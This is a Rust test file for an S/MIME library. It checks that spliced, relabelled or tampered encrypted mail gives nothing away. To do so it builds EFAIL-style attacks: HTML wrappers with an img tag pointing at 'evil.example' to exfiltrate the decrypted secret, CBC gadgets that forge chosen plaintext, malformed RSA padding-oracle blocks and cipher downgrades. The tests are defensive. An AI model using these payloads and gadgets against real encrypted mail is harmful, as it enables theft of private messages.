//! Encrypted mail: what is spliced, relabelled or put beside something else gives nothing away.

use sealpost::asn1::{encode, oid};
use sealpost::crypto::algorithm::{CipherParameters, ContentCipher, DigestAlgorithm, KeyTransport};
use sealpost::crypto::cipher::Encryptor;
use sealpost::crypto::random::{OsRandom, Seeded};
use sealpost::crypto::transport;
use sealpost::keys::Identity;
use sealpost::smime::{Code, Open, Opened, Outcome};

use super::stage::*;
use crate::support;

const SECRET: &str = "The secret is Xyzzy.";

/// What is encrypted: long enough that a splice finds whole blocks.
fn secret_entity() -> String {
    format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{SECRET}\r\n")
}

/// An encrypted message, to be bent.
#[derive(Clone)]
struct Envelope {
    authenticated: bool,
    parameters: CipherParameters,
    recipients: Vec<Vec<u8>>,
    ciphertext: Vec<u8>,
    attributes: Option<Vec<u8>>,
    tag: Option<Vec<u8>>,
}

impl Envelope {
    fn new(cipher: ContentCipher, entity: &str, tag_len: usize, attributes: Option<Vec<u8>>) -> Self {
        let mut parameters = CipherParameters::generate(cipher, &mut Seeded::new(b"iv"));
        parameters.tag_len = tag_len;
        let key = vec![0x42; cipher.key_len()];
        let mut encryptor = Encryptor::new(&parameters, &key).expect("a key that fits");
        let mut ciphertext = Vec::new();
        encryptor.update(entity.as_bytes(), &mut ciphertext);
        let tag = encryptor.finish(attributes.as_deref().unwrap_or_default(), &mut ciphertext).expect("encrypted");
        let recipients = vec![ktri(&stage().bob, &KeyTransport::oaep(DigestAlgorithm::Sha256), &key)];
        Self { authenticated: cipher.is_authenticated(), parameters, recipients, ciphertext, attributes, tag }
    }

    fn cbc(entity: &str) -> Self {
        Self::new(ContentCipher::Aes256Cbc, entity, 0, None)
    }

    fn gcm(entity: &str) -> Self {
        Self::new(ContentCipher::Aes256Gcm, entity, 16, None)
    }

    fn with(mut self, change: impl FnOnce(&mut Self)) -> Self {
        change(&mut self);
        self
    }

    fn der(&self) -> Vec<u8> {
        let ciphertext = encode::implicit(0, &encode::octet_string(&self.ciphertext));
        let inner = encode::sequence(&[encode::oid(&oid::ID_DATA), self.parameters.identifier().to_der(), ciphertext]);
        let mut fields = vec![encode::integer_u64(0), encode::set_of(self.recipients.clone()), inner];
        fields.extend(self.attributes.as_ref().map(|set| encode::implicit(1, set)));
        fields.extend(self.tag.as_ref().map(|tag| encode::octet_string(tag)));
        let kind = if self.authenticated { oid::ID_AUTH_ENVELOPED_DATA } else { oid::ID_ENVELOPED_DATA };
        encode::sequence(&[encode::oid(&kind), encode::explicit(0, &encode::sequence(&fields))])
    }

    fn part(&self) -> String {
        part(ENVELOPED, &self.der())
    }

    fn message(&self) -> String {
        message(FROM_ALICE, &self.part())
    }
}

fn ktri(to: &Identity, by: &KeyTransport, key: &[u8]) -> Vec<u8> {
    let encrypted =
        transport::encrypt(to.certificate().public_key().as_ref().expect("a key"), by, key, &mut Seeded::new(b"ktri"));
    ktri_of(to, by, &encrypted.expect("encrypted"))
}

fn ktri_of(to: &Identity, by: &KeyTransport, encrypted: &[u8]) -> Vec<u8> {
    encode::sequence(&[
        encode::integer_u64(0),
        issuer_serial(to.certificate()),
        by.identifier().to_der(),
        encode::octet_string(encrypted),
    ])
}

fn released(opened: &Opened) -> String {
    opened.released().map(|r| String::from_utf8_lossy(&[r.content(), &r.message()].concat()).into_owned()).unwrap_or_default()
}

#[test]
fn what_the_attacker_starts_from_opens() {
    check_all([
        ("cbc", Envelope::cbc(&secret_entity()).message(), Expect::Warned(Code::NotAuthenticated)),
        ("gcm", Envelope::gcm(&secret_entity()).message(), Expect::Good),
    ]);
}

#[test]
fn parts_around_an_encrypted_one_are_told_and_never_joined_to_it() {
    let open_html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?";
    let close_html = format!("Content-Type: text/html\r\n\r\n\">{EVIL}");
    let style = "Content-Type: text/css\r\nContent-ID: <style>\r\n\r\nbody { display: none }";
    for envelope in [Envelope::cbc(&secret_entity()), Envelope::gcm(&secret_entity())] {
        let part = envelope.part();
        let inner = multipart("mixed", "i", &[&part]);
        let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{}", envelope.message());
        for (name, entity) in [
            ("direct", multipart("mixed", "w", &[open_html, &part, &close_html])),
            ("alternative", multipart("alternative", "w", &[open_html, &part])),
            ("related", multipart("related", "w", &[open_html, &part, style])),
            ("a reply in front", multipart("mixed", "w", &["\r\nWhat do you think?", &part])),
            ("below", multipart("mixed", "w", &[open_html, &inner, &close_html])),
            ("forwarded", multipart("report", "w", &[&close_html, &forwarded])),
        ] {
            let opened = open(message(FROM_ALICE, &entity));
            check(name, &opened, Expect::Warned(Code::Uncovered)).expect("told");
            let shown = released(&opened);
            assert!(shown.contains(SECRET) && !shown.contains("evil.example") && !shown.contains("What do you think"), "{shown}");
            assert!(!opened.verdict().uncovered.is_empty());
            assert!(opened.into_verified().is_err(), "{name}");
        }
    }
}

#[test]
fn ciphertext_that_was_changed_under_a_tag_gives_nothing() {
    let flip = |bytes: &mut Vec<u8>, at: usize| bytes[at] ^= 1;
    let set = encode::set_of(vec![content_type(oid::ID_DATA)]);
    let bound = Envelope::new(ContentCipher::Aes256Gcm, &secret_entity(), 16, Some(set.clone()));
    let gcm = || Envelope::gcm(&secret_entity());
    let bad = Expect::Refused(Code::DecryptionFailed);
    check_all([
        ("with attributes", bound.message(), Expect::Good),
        ("attributes taken away", bound.clone().with(|e| e.attributes = None).message(), bad),
        ("attributes added", gcm().with(|e| e.attributes = Some(set.clone())).message(), bad),
        (
            "attributes changed",
            bound.with(|e| e.attributes = Some(encode::set_of(vec![content_type(oid::ID_SIGNED_DATA)]))).message(),
            bad,
        ),
        ("first byte", gcm().with(|e| flip(&mut e.ciphertext, 0)).message(), bad),
        (
            "last byte",
            gcm()
                .with(|e| {
                    e.ciphertext.pop();
                })
                .message(),
            bad,
        ),
        ("a byte more", gcm().with(|e| e.ciphertext.push(0)).message(), bad),
        ("no ciphertext", gcm().with(|e| e.ciphertext.clear()).message(), bad),
        ("nonce", gcm().with(|e| flip(&mut e.parameters.iv, 0)).message(), bad),
        ("tag", gcm().with(|e| flip(e.tag.as_mut().expect("one"), 15)).message(), bad),
        ("a tag of zeros", gcm().with(|e| e.tag = Some(vec![0; 16])).message(), bad),
        ("a tag cut below what is declared", gcm().with(|e| e.tag.as_mut().expect("one").truncate(12)).message(), bad),
        ("a tag cut to nothing", gcm().with(|e| e.tag.as_mut().expect("one").clear()).message(), bad),
        ("no tag", gcm().with(|e| e.tag = None).message(), Expect::Refused(Code::Malformed)),
    ]);
}

#[test]
fn short_tags_are_weak_and_shorter_ones_are_none() {
    for tag_len in 12..16 {
        let short = Envelope::new(ContentCipher::Aes128Gcm, &secret_entity(), tag_len, None);
        check_all([("short", short.message(), Expect::Refused(Code::WeakAlgorithm))]);
        let accept = sealpost::smime::Accept::from_codes(["weak-algorithm"]).expect("a known code");
        let opened =
            Open::new(&stage().trust).accept(accept).identity(&stage().bob).run(short.message().as_bytes(), &mut OsRandom);
        assert!(released(&opened).contains(SECRET), "{tag_len} is legal (RFC 5084 3.2)");
    }
    // a good tag, said to be short, so that fewer bytes need to be guessed
    for tag_len in [0, 1, 4, 8, 11, 17, 255] {
        let shorter = Envelope::gcm(&secret_entity()).with(|e| {
            e.parameters.tag_len = tag_len;
            e.tag.as_mut().expect("one").truncate(tag_len);
        });
        let opened = open(shorter.message());
        assert_eq!(opened.verdict().outcome(), Outcome::Refused, "{tag_len}");
        assert!(opened.released().is_none());
    }
    let relabelled = Envelope::gcm(&secret_entity()).with(|e| {
        e.parameters.tag_len = 12;
        e.tag.as_mut().expect("one").truncate(12);
    });
    assert!(open(relabelled.message()).released().is_none());
}

#[test]
fn ciphers_and_containers_that_do_not_go_together_are_refused() {
    let relabel = |envelope: Envelope, cipher: ContentCipher, authenticated: bool, tag: Option<Vec<u8>>| {
        envelope.with(|e| {
            e.parameters.cipher = cipher;
            e.parameters.iv.resize(cipher.iv_len(), 0);
            (e.authenticated, e.tag) = (authenticated, tag);
        })
    };
    let (cbc, gcm) = (|| Envelope::cbc(&secret_entity()), || Envelope::gcm(&secret_entity()));
    let (aes_cbc, aes_gcm) = (ContentCipher::Aes256Cbc, ContentCipher::Aes256Gcm);
    let tag = Some(vec![0; 16]);
    check_all([
        ("cbc in AuthEnvelopedData", relabel(cbc(), aes_cbc, true, tag.clone()).message(), Expect::Refused(Code::Malformed)),
        ("cbc in AuthEnvelopedData, no tag", relabel(cbc(), aes_cbc, true, None).message(), Expect::Refused(Code::Malformed)),
        (
            "3des in AuthEnvelopedData",
            relabel(cbc(), ContentCipher::DesEde3Cbc, true, tag).message(),
            Expect::Refused(Code::Malformed),
        ),
        ("gcm in EnvelopedData", relabel(gcm(), aes_gcm, false, None).message(), Expect::Refused(Code::Malformed)),
        (
            "chacha in EnvelopedData",
            relabel(gcm(), ContentCipher::ChaCha20Poly1305, false, None).message(),
            Expect::Refused(Code::Malformed),
        ),
        (
            "a key of another length",
            relabel(gcm(), ContentCipher::Aes128Gcm, true, gcm().tag).message(),
            Expect::Refused(Code::DecryptionFailed),
        ),
    ]);
    // from a tag to none: the blocks of GCM passed to the key as CBC give no plaintext
    let downgraded = relabel(gcm(), aes_cbc, false, None).with(|e| e.ciphertext.truncate(e.ciphertext.len() / 16 * 16));
    let opened = open(downgraded.message());
    assert!(!released(&opened).contains("Xyzzy"));
}

#[test]
fn a_signature_inside_finds_what_cbc_lets_pass() {
    let signed = clear_signed(ENTITY, &stage().alice);
    let whole = Envelope::cbc(&signed);
    check_all([("whole", whole.message(), Expect::Good)]);
    // the text begins somewhere in a block: change the block before it
    let at = signed.find(SAID).expect("it is there") / 16 * 16;
    for distance in [16, 32] {
        let spliced = whole.clone().with(|e| e.ciphertext[at - distance] ^= 1);
        let opened = open(spliced.message());
        assert!(opened.released().is_none(), "{:?}", opened.verdict().findings);
    }
    let (head, blocks) = (whole.ciphertext[..at].to_vec(), whole.ciphertext[at..].to_vec());
    let repeated = whole.with(|e| e.ciphertext = [head, e.ciphertext[at - 32..at].to_vec(), blocks].concat());
    assert!(open(repeated.message()).released().is_none());
}

/// The EFAIL gadget: blocks of the attacker's choice before the ciphertext of somebody else, of which he knows the first block. Between
/// each two of them stands a block that decrypts to noise.
fn gadget(envelope: Envelope, known: &str, blocks: &[&str]) -> Envelope {
    let (iv, first) = (envelope.parameters.iv.clone(), envelope.ciphertext[..16].to_vec());
    let so_that = |block: &str| -> Vec<u8> {
        assert_eq!(block.len(), 16, "{block:?}");
        iv.iter().zip(known.as_bytes()).zip(block.as_bytes()).map(|((iv, known), wanted)| iv ^ known ^ wanted).collect()
    };
    let mut ciphertext = first.clone();
    for block in &blocks[1..] {
        ciphertext.extend(so_that(block));
        ciphertext.extend(&first);
    }
    ciphertext.extend(&iv);
    ciphertext.extend(&envelope.ciphertext);
    envelope.with(|e| (e.parameters.iv, e.ciphertext) = (so_that(blocks[0]), ciphertext))
}

#[test]
fn gadgets_give_nothing() {
    let entity = secret_entity();
    let known = &entity[..16];
    let padding = Envelope::cbc(&entity).with(|e| e.ciphertext.truncate(e.ciphertext.len() - 16));
    let as_changed = open(padding.message());
    let failure = |opened: &Opened| opened.verdict().findings.iter().map(ToString::to_string).collect::<Vec<_>>();
    assert_eq!(as_changed.verdict().outcome(), Outcome::Bad);
    for blocks in [
        &["Content-Type: te", "xt/html\n\n<img a=", "\" src='//evil/?x", "='><a href='//e/"][..],
        &["MIME-Version: 1\n", "\nContent-Type: t", "ext/html\n\n<base ", "href='//evil/'><"][..],
        &["X-A: b\nX-Ignore:", "\n\n<!--0123456789", "--><img src='//e"][..],
    ] {
        let changed = gadget(Envelope::cbc(&entity), known, blocks);
        let opened = open(changed.message());
        assert!(opened.released().is_none(), "{blocks:?}: {}", released(&opened));
        assert_eq!((opened.verdict().outcome(), failure(&opened)), (Outcome::Bad, failure(&as_changed)), "{blocks:?}");
    }
}

#[test]
fn a_signature_around_foreign_ciphertext_does_not_make_its_content_verified() {
    let taken = Envelope::gcm(&clear_signed(ENTITY, &stage().alice));
    let wrapped = clear_signed(&taken.part(), &stage().mallory);
    let opened = open(message("From: mallory@example.net", &wrapped));
    check("mallory signs what alice encrypted", &opened, Expect::Refused(Code::FromMismatch)).expect("alice is no author");
    let unsigned = clear_signed(&Envelope::gcm(&secret_entity()).part(), &stage().mallory);
    let opened = open(message("From: mallory@example.net", &unsigned));
    assert!(opened.into_verified().is_err(), "who signs ciphertext need not know what it says");
}

/// RSA with no padding, by OpenSSL: what is encrypted is exactly `block`.
fn raw_rsa(block: &[u8]) -> Vec<u8> {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("block");
    std::fs::write(&file, block).expect("written");
    let line =
        format!("pkeyutl -encrypt -certin -inkey {} -pkeyopt rsa_padding_mode:none -in {}", path("bob.pem"), file.display());
    let (code, out, talk) = support::run("openssl", &line.split(' ').collect::<Vec<_>>(), b"");
    assert_eq!(code, 0, "{talk}");
    out
}

#[test]
fn every_failure_of_rsa_padding_looks_the_same() {
    if !support::peer("openssl") {
        return;
    }
    let key = vec![0x42; 32];
    let block = |kind: u8, separator_at: usize, key: &[u8]| {
        let mut block = vec![0xaa; 256];
        (block[0], block[1]) = (0, kind);
        if let Some(separator) = block.get_mut(separator_at) {
            *separator = 0;
        }
        block.splice(256 - key.len().., key.iter().copied());
        block
    };
    let cases = [
        ("good", raw_rsa(&block(2, 223, &key))),
        ("another key", raw_rsa(&block(2, 223, &[1; 32]))),
        ("type 1", raw_rsa(&block(1, 223, &key))),
        ("type 0", raw_rsa(&block(0, 223, &key))),
        ("no separator", raw_rsa(&block(2, 999, &[0xaa; 32]))),
        ("separator in the first eight", raw_rsa(&block(2, 5, &key))),
        ("a shorter key", raw_rsa(&block(2, 239, &key[..16]))),
        ("a longer key", raw_rsa(&block(2, 222, &[0x42; 33]))),
        ("an empty key", raw_rsa(&block(2, 255, &[]))),
        ("a number of one", raw_rsa(&[vec![0; 255], vec![1]].concat())),
        ("zero", vec![0; 256]),
        ("more than the modulus", vec![0xff; 256]),
        ("a byte less", vec![0x11; 255]),
        ("a byte more", vec![0x11; 257]),
        ("nothing", Vec::new()),
    ];
    for envelope in [Envelope::gcm(&secret_entity()), Envelope::cbc(&secret_entity())] {
        let mut answers = Vec::new();
        for (name, encrypted) in &cases {
            let message =
                envelope.clone().with(|e| e.recipients = vec![ktri_of(&stage().bob, &KeyTransport::RsaPkcs1, encrypted)]);
            let opened = open(message.message());
            let shown = released(&opened);
            if *name == "good" {
                assert!(shown.contains(SECRET), "{:?}", opened.verdict().findings);
                continue;
            }
            assert!(!shown.contains("Xyzzy"), "{name}");
            let findings: Vec<String> = opened.verdict().findings.iter().map(ToString::to_string).collect();
            answers.push((*name, opened.verdict().outcome(), findings));
        }
        // under CBC one random key in 256 ends with a padding that fits; here none does
        let (_, outcome, findings) = &answers[0];
        assert_eq!(*outcome, Outcome::Bad);
        for (name, other, texts) in &answers {
            assert_eq!((other, texts), (outcome, findings), "{name}");
        }
    }
}

#[test]
fn a_recipient_who_is_named_and_cannot_open_is_told_apart_from_none() {
    let to = |who: &Identity| {
        Envelope::gcm(&secret_entity()).with(|e| {
            e.recipients = vec![ktri(who, &KeyTransport::oaep(DigestAlgorithm::Sha256), &[0x42; 32])];
        })
    };
    check_all([
        ("for alice", to(&stage().alice).message(), Expect::Refused(Code::NoKey)),
        ("for nobody", Envelope::gcm(&secret_entity()).with(|e| e.recipients.clear()).message(), Expect::Refused(Code::NoKey)),
        (
            "of another kind",
            Envelope::gcm(&secret_entity())
                .with(|e| {
                    e.recipients = vec![encode::implicit(4, &encode::sequence(&[encode::oid(&oid::ID_DATA), encode::null()]))];
                })
                .message(),
            Expect::Refused(Code::NoKey),
        ),
    ]);
}

#[test]
fn old_ciphers_are_read_by_those_alone_who_accept_them() {
    if !support::peer("openssl") {
        return;
    }
    let bob = path("bob.pem");
    for cipher in ["-des3", "-des", "-rc2-40-cbc", "-rc2-64-cbc", "-rc2-cbc"] {
        let line = ["cms", "-encrypt", "-binary", "-outform", "DER", "-provider", "default", "-provider", "legacy", cipher, &bob];
        let (code, der, talk) = support::run("openssl", &line, secret_entity().as_bytes());
        assert_eq!(code, 0, "{cipher}: {talk}");
        let whole = message(FROM_ALICE, &part(ENVELOPED, &der));
        let opened = open(&whole);
        check(cipher, &opened, Expect::Refused(Code::WeakAlgorithm)).expect("weak");
        assert!(!released(&opened).contains(SECRET), "{cipher}");
        let accept = sealpost::smime::Accept::from_codes(["weak-algorithm"]).expect("a known code");
        let excused = Open::new(&stage().trust).accept(accept).identity(&stage().bob).run(whole.as_bytes(), &mut OsRandom);
        assert!(released(&excused).contains(SECRET), "{cipher}: {:?}", excused.verdict().findings);
        assert!(excused.into_verified().is_err(), "{cipher}");
    }
}
